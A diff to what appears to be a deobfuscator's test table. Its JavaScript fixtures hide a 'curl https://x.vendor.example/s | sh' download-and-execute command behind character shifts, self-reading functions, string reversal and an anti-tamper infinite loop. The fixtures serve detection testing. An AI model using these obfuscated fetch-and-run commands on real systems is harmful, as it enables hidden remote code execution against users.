@@ -51,6 +51,14 @@ static const struct folded constants[] = {
 	{"deflated, imported", "import { inflateSync as u } from 'node:zlib'; " RUN "u(Buffer.from('eJxLLi3KUcgoKSkottLXr9ArS81LyS/SS61IzC3ISdUvVqhRKM4AAPbODSk=', 'base64')).toString());", OUT},
 	{"array from", RUN "Array.from({length: 4}, (_, i) => 'curl'[i]).join('') + ' https://x.vendor.example/s | sh');", OUT},
 	{"class of names", "const n = ['exec', 'child_process']; require(n[1])[n[0]]('curl https://x.vendor.example/s | sh');", OUT},
+	{"made by new", "function D(k) { this.k = k; } D.prototype.open = function (s) { return this.shift(s, -this.k); }; D.prototype.shift = (s, by) => [...s].map((c) => String.fromCharCode(c.charCodeAt(0) + by)).join('');\n" RUN "new D(3).open('fxuo#kwwsv=22{1yhqgru1h{dpsoh2v#\\x7f#vk'));", OUT},
+	{"own source, looked at", "var d = function (s) { var own = '' + d, o = ''; for (var i = 0; i < s.length; i++) o += own.charCodeAt(i) - 10 !== 0 ? s[i] : i; return o; };\n"
+		RUN "d('curl https://x.vendor.example/s | sh'));", OUT},
+	{"own source, checked", "function d(s) { const C = function (f) { this.f = f; this.state = [1, 0, 0]; this.own = function(){return'new';}; this.a = '\\\\w+ *\\\\(\\\\) *{\\\\w+ *'; this.b = '[\\'|\"].+[\\'|\"];? *}'; };\n"
+		"C.prototype.go = function () { return this.next(new RegExp(this.a + this.b).test(this.own.toString()) ? --this.state[1] : --this.state[0]); };\n"
+		"C.prototype.next = function (v) { if (!Boolean(~v)) return v; return this.loop(); };\n"
+		"C.prototype.loop = function () { for (;;) this.state.push(Math.round(Math.random())); };\n"
+		"new C(d).go(); return s.split('').reverse().join(''); }\n" RUN "d('hs | s/elpmaxe.rodnev.x//:sptth lruc'));", OUT},
 	{"computed member", "const cp = require('child_process'); cp['e' + 'xec']('curl https://x.vendor.example/s | sh');", OUT},
 };
 
